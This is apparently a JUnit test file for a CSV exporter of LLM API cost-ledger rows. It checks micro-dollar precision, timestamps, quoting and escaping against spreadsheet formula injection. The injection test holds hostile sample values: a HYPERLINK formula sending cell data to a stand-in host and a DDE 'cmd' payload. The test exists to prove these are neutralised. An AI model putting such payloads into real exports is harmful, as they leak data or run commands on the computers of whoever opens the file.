package dev.switchboard.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import dev.switchboard.engine.config.BudgetsConfig;
import dev.switchboard.engine.config.LedgerConfig;
import dev.switchboard.engine.config.ModelConfig;
import dev.switchboard.engine.cost.CostEvent;
import dev.switchboard.engine.cost.CostReport;
import dev.switchboard.engine.cost.Ledger;
import dev.switchboard.engine.cost.LedgerRow;
import dev.switchboard.engine.cost.Micros;
import dev.switchboard.engine.cost.ReportQuery;
import dev.switchboard.engine.request.ServedBy;
import java.io.IOException;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvExportTest {
    private static final long AT = Instant.parse("2026-11-23T10:15:30.123Z").toEpochMilli();

    private static LedgerRow row(int n, String user, String plan, long cost, long saved) {
        return new LedgerRow("j1-" + n, AT + n, user, plan, "default", "gpt-4o", "gpt-4o-mini", "PROVIDER", 120, 340,
                cost, saved, 1_500 + n);
    }

    private static String export(List<LedgerRow> rows) throws IOException {
        StringWriter w = new StringWriter();
        try (CsvExport csv = CsvExport.to(w)) {
            for (LedgerRow r : rows) {
                csv.write(r);
            }
            assertThat(csv.rows()).isEqualTo(rows.size());
        }
        return w.toString();
    }

    private static List<Map<String, String>> parse(String csv) throws IOException {
        try (MappingIterator<Map<String, String>> it = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
            return it.readAll();
        }
    }

    @Test
    void roundTripKeepsEveryDigitSoTheCostColumnSumsToTheEngineTotal() throws IOException {
        Random rnd = new Random(42);
        List<LedgerRow> rows = new ArrayList<>();
        long engineTotal = 0;
        for (int i = 0; i < 20_000; i++) {
            // Sub-cent amounts, as most LLM calls cost: rounding each to cents would lose dollars in the sum.
            long cost = rnd.nextInt(10) == 0 ? 0 : rnd.nextInt(4_000);
            rows.add(row(i, "u" + (i % 7), "pro", cost, cost / 3));
            engineTotal += cost;
        }

        List<Map<String, String>> back = parse(export(rows));

        assertThat(back).hasSize(rows.size());
        BigDecimal sum = BigDecimal.ZERO;
        for (int i = 0; i < rows.size(); i++) {
            BigDecimal parsed = new BigDecimal(back.get(i).get("cost_usd"));
            assertThat(parsed).isEqualByComparingTo(Micros.toUsd(rows.get(i).costMicros()));
            assertThat(new BigDecimal(back.get(i).get("saved_usd")))
                    .isEqualByComparingTo(Micros.toUsd(rows.get(i).savedMicros()));
            sum = sum.add(parsed);
        }
        assertThat(sum).isEqualByComparingTo(Micros.toUsd(engineTotal));
    }

    /**
     * Many small calls priced the way the engine prices them, through the ledger to CSV: every amount is a plain
     * decimal of at most six places (micro-dollars; no binary fractions like 0.000045299999999999997), and the
     * report's total is exactly the sum of the rows.
     */
    @Test
    void manySmallCostsExportAsPlainDecimalsThatSumExactlyToTheReportTotal(@TempDir Path dir) throws Exception {
        ModelConfig mini = new ModelConfig("gpt-4o-mini", "2024-07-18", ModelConfig.SIMULATED, 0.15, 0.60);
        LedgerConfig lc = new LedgerConfig(true, "jdbc:h2:file:" + dir.resolve("db").toAbsolutePath(), null, null,
                dir.resolve("journal"), 500, Duration.ofMillis(20));
        Instant day = Instant.parse("2026-11-23T00:00:00Z");
        String csv;
        CostReport report;
        try (Ledger ledger = Ledger.open(lc, () -> BudgetsConfig.NONE, InstantSource.fixed(day))) {
            for (int i = 0; i < 3_000; i++) {
                int in = 100 + i % 401;
                int out = 7 + i % 93;
                ledger.record(new CostEvent(day.toEpochMilli() + i * 1_000L, "u" + i % 5, "pro", "default",
                        "gpt-4o-mini", "gpt-4o-mini", ServedBy.PROVIDER, in, out, mini.costMicros(in, out), 0, 900));
            }
            assertThat(ledger.flush(Duration.ofSeconds(20))).isTrue();
            ReportQuery q = ReportQuery.between(day, day.plus(Duration.ofDays(1)));
            StringWriter w = new StringWriter();
            try (CsvExport out = CsvExport.to(w)) {
                ledger.queries().stream(q, out::write);
            }
            csv = w.toString();
            report = ledger.queries().summarize(q);
        }
        List<Map<String, String>> rows = parse(csv);
        assertThat(rows).hasSize(3_000);
        assertThat(rows).extracting(r -> r.get("cost_usd")).as("no binary fractions like 0.000045299999999999997")
                .allMatch(c -> c.length() <= 10);
        BigDecimal sum = BigDecimal.ZERO;
        for (Map<String, String> r : rows) {
            assertThat(r.get("cost_usd")).matches("\\d+(\\.\\d{1,6})?");
            sum = sum.add(new BigDecimal(r.get("cost_usd")));
        }
        assertThat(sum).isEqualByComparingTo(Micros.toUsd(report.totals().costMicros()));
    }

    @Test
    void headerThenOneLinePerRowWithIsoUtcTimesAndPlainDecimals() throws IOException {
        LedgerRow r = new LedgerRow("j2-9", AT, "alice", "pro", "support", "gpt-4o", "gpt-4o", "L1", 10, 20,
                10, 1, 42);
        LedgerRow onTheSecond = new LedgerRow("j2-10", Instant.parse("2026-11-23T10:15:31Z").toEpochMilli(),
                "bob", "free", "ns", "m", "m", "PROVIDER", 1, 2, 12_500_000, 0, 7);

        String csv = export(List.of(r, onTheSecond));

        assertThat(csv.split("\n", -1)).containsExactly(
                "id,at,user,plan,namespace,model_asked,model,served_by,tokens_in,tokens_out,cost_usd,saved_usd,"
                        + "latency_us",
                "j2-9,2026-11-23T10:15:30.123Z,alice,pro,support,gpt-4o,gpt-4o,L1,10,20,0.00001,0.000001,42",
                "j2-10,2026-11-23T10:15:31.000Z,bob,free,ns,m,m,PROVIDER,1,2,12.5,0,7",
                "");
    }

    @Test
    void nullUserAndPlanAreEmptyFields() throws IOException {
        String csv = export(List.of(row(1, null, null, 500_000, 0)));

        assertThat(csv.lines().skip(1).findFirst().orElseThrow())
                .startsWith("j1-1,2026-11-23T10:15:30.124Z,,,default,");
        Map<String, String> back = parse(csv).getFirst();
        assertThat(back.get("user")).isEmpty();
        assertThat(back.get("plan")).isEmpty();
        assertThat(back.get("namespace")).isEqualTo("default");
    }

    @Test
    void quotesAUserNameWithACommaAndAQuote() throws IOException {
        String user = "Smith, \"Al\"";

        String csv = export(List.of(row(1, user, "pro", 250_000, 0)));

        assertThat(csv).contains(",\"Smith, \"\"Al\"\"\",pro,");
        assertThat(parse(csv).getFirst().get("user")).isEqualTo(user);
    }

    /**
     * A cell a spreadsheet would run as a formula (OWASP "CSV injection") is prefixed with a single quote, in the
     * text columns only: a negative amount stays a number.
     */
    @Test
    void textThatASpreadsheetWouldRunAsAFormulaIsQuotedOff() throws IOException {
        LedgerRow r = new LedgerRow("j3-1", AT, "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+pro", "-ns",
                "@SUM(A1:A9)", "\tmodel", "PROVIDER", 1, 2, 1_500_000, -500_000, 3);
        LedgerRow cr = new LedgerRow("j3-2", AT, "\rcmd|' /C calc'!A0", "plain", "ns", "m", "m", "L1", 1, 2, 0, 0, 3);

        Map<String, String> back = parse(export(List.of(r))).getFirst();
        assertThat(back.get("user")).isEqualTo("'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
        assertThat(back.get("plan")).isEqualTo("'+pro");
        assertThat(back.get("namespace")).isEqualTo("'-ns");
        assertThat(back.get("model_asked")).isEqualTo("'@SUM(A1:A9)");
        assertThat(back.get("model")).isEqualTo("'\tmodel");
        assertThat(back.get("cost_usd")).isEqualTo("1.5");
        assertThat(back.get("saved_usd")).as("numbers are never escaped").isEqualTo("-0.5");
        assertThat(parse(export(List.of(cr))).getFirst().get("user")).isEqualTo("'\rcmd|' /C calc'!A0");
        // Text that only contains such characters further in is left alone.
        assertThat(parse(export(List.of(row(1, "a=b", "p-1", 0, 0)))).getFirst())
                .containsEntry("user", "a=b").containsEntry("plan", "p-1");
    }

    @Test
    void anEmptyExportIsJustTheHeaderAndTheWriterStaysOpen() throws IOException {
        StringWriter w = new StringWriter();
        try (CsvExport csv = CsvExport.to(w)) {
            assertThat(csv.rows()).isZero();
        }
        assertThat(w.toString()).isEqualTo(CsvExport.HEADER + "\n");
        assertThat(parse(w.toString())).isEmpty();

        w.write("still open");
        assertThat(w.toString()).endsWith("still open");
    }
}
